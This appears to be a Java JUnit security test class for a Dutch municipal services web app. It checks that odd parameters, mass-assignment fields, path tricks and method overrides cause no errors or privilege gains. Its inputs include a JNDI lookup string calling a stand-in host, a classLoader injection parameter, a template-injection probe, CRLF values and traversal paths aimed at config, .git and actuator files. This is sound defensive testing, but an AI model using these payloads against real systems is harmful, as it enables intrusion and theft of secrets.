package nl.samenhang.aanval;

import static nl.samenhang.aanval.Aanvaller.encode;
import static nl.samenhang.aanval.Aanvaller.veld;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;

/** Fields that are doubled, listed, nested, foreign or written in odd characters. */
class ParameterAanvalTest extends Aanval {

    /** After the name of a parameter; each is as it goes over the line. */
    private static final List<String> ODD =
            List.of(
                    "=a&%1$s=b",
                    "[]=a",
                    "[0]=a",
                    "[class]=a",
                    ".class.module.classLoader=a",
                    "=%%00",
                    "=%%ff%%fe",
                    "=%%c0%%ae%%c0%%ae",
                    "=%%E2%%80%%AE%%E2%%80%%8B",
                    "=%%F0%%9F%%92%%A3",
                    "=-1",
                    "=99999999999999999999",
                    "=9999-99-99",
                    "=NaN",
                    "=%%24%%7Bjndi:ldap://elders.example%%7D",
                    "=%%7B%%7B7*7%%7D%%7D");

    @Test
    void no_odd_field_in_an_address_breaks_a_page() {
        var broken = new ArrayList<String>();
        for (var who : List.of(employee(SAMENSTAD, "TEAMLEIDER"), as("beheer"), as("privacy"))) {
            for (var ingang : ingangen()) {
                if (!ingang.method().equals("GET") || ingang.hasId() || isMachine(ingang)) {
                    continue;
                }
                if (who.get(ingang.pattern()).status() == 403) {
                    continue;
                }
                for (var naam : withSome(ingang.velden())) {
                    for (var odd : ODD) {
                        var path = ingang.pattern() + "?" + naam + odd.formatted(naam);
                        var status = who.get(path).status();
                        if (status >= 500) {
                            broken.add(path + " answers " + status);
                        }
                    }
                }
            }
        }
        assertThat(broken).isEmpty();
    }

    @Test
    void no_odd_field_in_a_form_breaks_its_handler() {
        var broken = new ArrayList<String>();
        var yusuf = as("yusuf");
        var file = fileOfYusuf().toString();
        for (var ingang : ingangen()) {
            if (!ingang.method().equals("POST")
                    || isMachine(ingang)
                    || ingang.pattern().startsWith("/uitloggen")
                    || ingang.pattern().startsWith("/account")) {
                continue;
            }
            var path =
                    ingang.pattern().startsWith("/gezinnen/{")
                            ? ingang.pattern().replaceFirst("\\{[^}]+}", file)
                            : ingang.pattern();
            for (var odd : List.of("\u0000", "\ud83d\udca3", "99999999999999999999", "a\r\nb")) {
                var fields =
                        ingang.velden().stream()
                                .flatMap(n -> List.of(veld(n, odd), veld(n, odd)).stream())
                                .toList();
                var filled = path.replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
                var status = yusuf.post(filled, fields).status();
                if (status >= 500) {
                    broken.add(ingang.pattern() + " answers " + status + " to " + encode(odd));
                }
            }
        }
        assertThat(broken).isEmpty();
    }

    @Test
    void a_doubled_search_finds_no_more_than_one_search() {
        var yusuf = as("yusuf");
        var one = yusuf.get("/zoeken?q=zzqqxx");
        var doubled = yusuf.get("/zoeken?q=zzqqxx&q=zzqqyy");
        assertThat(doubled.status()).isEqualTo(200);
        assertThat(hits(doubled)).isEqualTo(hits(one));
    }

    @Test
    void a_bsn_that_is_split_over_two_fields_still_comes_in_no_address() {
        var answer = as("yusuf").get("/zoeken?q=9999&q=00006");
        assertThat(answer.heen()).doesNotContain("9999");
        assertThat(answer.tekst()).doesNotContain("999900006");
    }

    @Test
    void fields_that_the_form_has_not_change_nothing_of_who_somebody_is() {
        var account = account(SAMENSTAD, "CONSULENT");
        var who = as(account);
        var extra =
                List.of(
                        veld("gemeente", "9902"),
                        veld("rol", "BEHEERDER"),
                        veld("rechten", "beheer"),
                        veld("breed", "true"),
                        veld("actor", UUID.randomUUID().toString()),
                        veld("gebruiker.rol", "BEHEERDER"));
        who.post("/account/sessies/einde", extra);
        who.post("/zoeken", Aanvaller.with(extra, "q", "de wit"));
        assertThat(who.get("/beheer/gebruikers").status()).isEqualTo(403);
        assertThat(
                        count(
                                "select count(*) from security.roltoekenning r join security.account a"
                                        + " on a.gemeente = r.gemeente and a.medewerker = r.medewerker"
                                        + " where a.gebruikersnaam = ? and r.rol <> 'CONSULENT'",
                                account))
                .isZero();
    }

    @Test
    void a_reporter_decides_nothing_that_the_house_decides() {
        var words = "Massatoewijzing " + UUID.randomUUID();
        var visitor = visitor();
        var stempel =
                visitor.get("/melding")
                        .tekst()
                        .replaceAll("(?s).*name=\"stempel\" value=\"([^\"]+)\".*", "$1");
        var answer =
                visitor.post(
                        "/melding",
                        List.of(
                                veld("stap", "CONTACT"),
                                veld("stempel", stempel),
                                veld("hulpvraag", words),
                                veld("rol", "ZELF"),
                                veld("gevaar", "NEE"),
                                veld("tijd", "DEZE_WEEK"),
                                veld("contactwijze", "GEEN"),
                                veld("status", "GESLOTEN"),
                                veld("gemeente", "9902"),
                                veld("referentie", "M-0000-000001"),
                                veld("behandelaar", UUID.randomUUID().toString()),
                                veld("id", UUID.randomUUID().toString())));
        assertThat(answer.heen()).as(answer.tekst()).contains("/melding/ontvangen");
        assertThat(
                        count(
                                "select count(*) from melding.melding where hulpvraag = ? and gemeente = '9901'"
                                        + " and status <> 'GESLOTEN' and behandelaar is null"
                                        + " and referentie <> 'M-0000-000001'",
                                words))
                .isOne();
    }

    @Test
    void an_employee_with_one_municipality_cannot_choose_another() {
        var who = employee(SAMENSTAD, "CONSULENT");
        assertThat(who.post("/gemeente", List.of(veld("gemeente", "9902"))).status())
                .isEqualTo(404);
        assertThat(
                        who.post(
                                        "/gemeente",
                                        List.of(veld("gemeente", "9901"), veld("gemeente", "9902")))
                                .status())
                .isEqualTo(404);
    }

    @Test
    void a_path_that_is_written_in_another_way_opens_no_other_door() {
        var resident = as("sanne");
        for (var path :
                List.of(
                        "/beheer/gebruikers/",
                        "//beheer/gebruikers",
                        "/mijn/../beheer/gebruikers",
                        "/mijn/%2e%2e/beheer/gebruikers",
                        "/mijn/..;/beheer/gebruikers",
                        "/beheer;x=1/gebruikers",
                        "/BEHEER/gebruikers",
                        "/beheer/gebruikers.json",
                        "/beheer%2fgebruikers",
                        "/beheer/./gebruikers",
                        "/./beheer/gebruikers",
                        "/beheer/gebruikers%00",
                        "/error",
                        "/actuator",
                        "/actuator/env",
                        "/actuator/heapdump",
                        "/h2-console",
                        "/.git/config",
                        "/application.yaml",
                        "/WEB-INF/web.xml",
                        "/css/..%2f..%2fapplication.yaml",
                        "/css/..%252f..%252fapplication.yaml",
                        "/vendor/....//....//application.yaml")) {
            var answer =
                    Lijn.send(
                            port,
                            "GET "
                                    + path
                                    + " HTTP/1.1\r\nHost: localhost\r\nCookie: "
                                    + resident.cookieHeader()
                                    + "\r\nConnection: close\r\n\r\n");
            assertThat(answer.substring(9, 12)).as(path).matches("[34]\\d\\d");
            assertThat(answer)
                    .as(path)
                    .doesNotContain("jdbc", "SAMENHANG_DB", "Gebruikers beheren");
        }
    }

    @Test
    void another_method_or_a_method_in_a_field_opens_no_other_door() {
        var yusuf = as("yusuf");
        for (var method : List.of("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE")) {
            assertThat(yusuf.send(method, "/beheer/gebruikers", "", new byte[0]).status())
                    .as(method)
                    .isIn(200, 302, 400, 403, 404, 405);
            assertThat(yusuf.send(method, "/beheer/gebruikers", "", new byte[0]).tekst())
                    .as(method)
                    .doesNotContain("petra");
        }
        assertThat(yusuf.get("/beheer/gebruikers", "X-HTTP-Method-Override", "POST").status())
                .isEqualTo(403);
        assertThat(yusuf.get("/beheer/gebruikers", "X-Original-URL", "/werk").status())
                .isEqualTo(403);
        assertThat(yusuf.get("/beheer/gebruikers", "X-Forwarded-Prefix", "/werk").status())
                .isEqualTo(403);
    }

    private static List<String> withSome(List<String> names) {
        return names.isEmpty() ? List.of("q") : names;
    }

    private static boolean isMachine(Ingang ingang) {
        return ingang.pattern().startsWith("/api/") || ingang.pattern().startsWith("/scim/");
    }

    private static long hits(Antwoord answer) {
        return answer.tekst().split("href=\"/inwoners/", -1).length;
    }
}
